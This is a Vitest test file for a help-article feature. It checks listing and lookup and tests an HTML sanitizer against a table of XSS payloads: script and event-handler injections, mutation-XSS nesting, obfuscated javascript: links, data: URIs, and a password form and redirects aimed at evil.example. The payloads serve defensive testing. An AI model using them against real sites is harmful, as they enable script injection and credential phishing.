import { describe, expect, it } from 'vitest';
import { ARTICLES } from '#functions/adapters/help/articles.data.ts';
import { harmlessHtml } from '#functions/adapters/help/harmless-html.ts';
import { writtenArticles } from '#functions/adapters/help/written-articles.ts';
import { listArticles, readArticle } from '#functions/features/help/read-articles.ts';
import { defaultBrand } from '#shared/brand.ts';
import type { Article } from '#shared/help/article.ts';

const ctxOf = (en: Article[], ja: Article[] = en) => ({
  brand: defaultBrand,
  now: () => new Date('2026-11-20T10:00:00Z'),
  helpArticles: writtenArticles({ en, ja }),
});
const ours = ctxOf(ARTICLES.en, ARTICLES.ja);
const [first] = ARTICLES.en as [Article];

describe('help articles', () => {
  it.each(['en', 'ja'] as const)('there are nine articles in %s, two of which are drafts', (language) => {
    expect(ARTICLES[language].map(({ state }) => state).sort()).toEqual(['draft', 'draft', ...Array(7).fill('published')]);
  });

  it.each(['en', 'ja'] as const)('[SHL-12] articles in %s are listed once they are published and have a URL', async (language) => {
    const { articles } = await listArticles(ours, { language });
    expect(articles.map(({ url }) => url)).toEqual([
      '/help/find-creators',
      '/help/read-a-report',
      '/help/post-content',
      '/help/keep-lists',
      '/help/your-data',
      '/help/credits',
      '/help/keyboard',
    ]);
  });

  it('[SHL-12] articles without a URL are hidden, even when they are published', async () => {
    const ctx = ctxOf([
      { ...first, url: null },
      { ...first, url: '' },
    ]);
    expect((await listArticles(ctx, { language: 'en' })).articles).toEqual([]);
  });

  it('an article is found by its id; drafts and unknown ones are not found', async () => {
    expect((await readArticle(ours, { id: 'credits', language: 'ja' })).article.title).toBe('クレジットの使われ方');
    for (const id of ['first-api-call', 'nothing']) {
      await expect(readArticle(ours, { id, language: 'en' })).rejects.toMatchObject({ code: 'not_found' });
    }
  });

  it.each(['en', 'ja'] as const)('sanitizing removes nothing from the articles in %s', async (language) => {
    for (const { id, body } of await ours.helpArticles.all(language)) {
      expect(body, id).toBe(ARTICLES[language].find((article) => article.id === id)?.body);
    }
  });
});

describe('the HTML of an article', () => {
  it.each([
    ['a script', '<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
    ['a script in capitals that never ends', '<p>Hi</p><SCRIPT src=//evil.example>', '<p>Hi</p>'],
    ['a handler', '<p onclick="alert(1)">Hi</p>', '<p>Hi</p>'],
    ['a picture that fails', '<p>Hi<img src=x onerror=alert(1)></p>', '<p>Hi</p>'],
    ['a drawing', '<svg onload=alert(1)><script>alert(1)</script></svg><p>Hi</p>', '<p>Hi</p>'],
    ['a drawing that hides a style', '<svg><style><img src=x onerror=alert(1)></style></svg>Hi', 'Hi'],
    [
      'formulas',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<table></table>',
    ],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>Hi</p>', '<p>Hi</p>'],
    ['a style', '<style>*{display:none}</style><p style="position:fixed;inset:0">Hi</p>', '<p>Hi</p>'],
    ['a form', '<form action="https://evil.example"><input name=password></form>Hi', 'Hi'],
    ['a link that acts', '<a href="javascript:alert(1)">Hi</a>', '<a>Hi</a>'],
    ['a link that acts, disguised', '<a href=" j&#x61;va\tscript&colon;alert(1)">Hi</a>', '<a>Hi</a>'],
    ['a link to data', '<a href="data:text/html,<script>alert(1)</script>">Hi</a>', '<a>Hi</a>'],
    ['a link to an unnamed protocol', '<a href="//evil.example">Hi</a>', '<a>Hi</a>'],
    ['a base', '<base href="https://evil.example/"><p>Hi</p>', '<p>Hi</p>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Hi</p>', '<p>Hi</p>'],
    ['a name that replaces ours', '<p id="root" name="brand" class="veil">Hi</p>', '<p>Hi</p>'],
  ])('sanitizing removes %s', (_what, html, left) => {
    expect(harmlessHtml(html)).toBe(left);
  });

  it('sanitizing keeps headings, lists, tables, emphasis and plain links', () => {
    const body =
      '<h2>How</h2><ul><li><strong>a</strong> <em>b</em> <code>c</code></li></ul><p><a href="https://x.example/a">d</a> <a href="/discovery">e</a></p>';
    expect(harmlessHtml(body)).toBe(body);
  });

  it('the call returns sanitized HTML', async () => {
    const ctx = ctxOf([{ ...first, body: '<p>Hi<img src=x onerror=alert(1)></p>' }]);
    expect((await readArticle(ctx, { id: first.id, language: 'en' })).article.body).toBe('<p>Hi</p>');
  });
});
